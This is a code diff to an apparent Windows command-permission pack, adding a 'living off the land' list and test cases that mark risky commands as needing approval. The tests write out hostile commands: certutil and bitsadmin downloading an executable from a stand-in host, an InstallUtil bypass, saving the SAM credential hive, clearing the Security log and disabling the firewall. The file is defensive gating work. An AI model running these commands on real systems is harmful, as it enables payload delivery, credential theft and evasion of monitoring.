@@ -5,10 +5,11 @@ import type { Facts } from "../../../core/facts.ts";
 import { effectsOfDiskpart } from "./diskpart.ts";
 import { DISKS } from "./disks.ts";
 import { effectOfTool } from "./line.ts";
+import { LIVING_OFF_THE_LAND } from "./living-off-the-land.ts";
 import { SYSTEM } from "./system.ts";
 
 const HELP = /(?:^|\s)(?:\/\?|--?help|-\?)(?:\s|$)/;
-const LINES = [...DISKS, ...SYSTEM];
+const LINES = [...DISKS, ...SYSTEM, ...LIVING_OFF_THE_LAND];
 
 export const windowsTools: ProgramPack = {
   kind: "program",
@@ -39,6 +40,13 @@ export const windowsTools: ProgramPack = {
     { run: "shutdown /s /t 0", shell: "cmd", expect: "ask" },
     { run: "wevtutil cl Security", shell: "cmd", expect: "ask" },
     { run: "netsh advfirewall set allprofiles state off", shell: "cmd", expect: "ask" },
+    { run: "certutil -urlcache -split -f http://files.example/a.exe a.exe", shell: "cmd", expect: "ask" },
+    { run: "bitsadmin /transfer job http://files.example/a.exe C:\\Temp\\a.exe", shell: "cmd", expect: "ask" },
+    { run: "InstallUtil.exe /logfile= /U tool.dll", shell: "cmd", expect: "ask" },
+    { run: "reg save HKLM\\SAM C:\\Temp\\sam", shell: "cmd", expect: "ask" },
+    { run: "wscript C:\\Temp\\start.vbs", shell: "cmd", expect: "ask" },
+    { run: "certutil -hashfile setup.exe SHA256", shell: "cmd", expect: "allow" },
+    { run: "msbuild app.sln /t:Build", shell: "cmd", expect: "allow" },
     { run: "taskkill /pid 4312 /f", shell: "cmd", expect: "allow" },
     { run: "reg query HKLM\\SOFTWARE\\Microsoft /s", shell: "cmd", expect: "allow" },
     { run: "sc query Spooler", shell: "cmd", expect: "allow" },
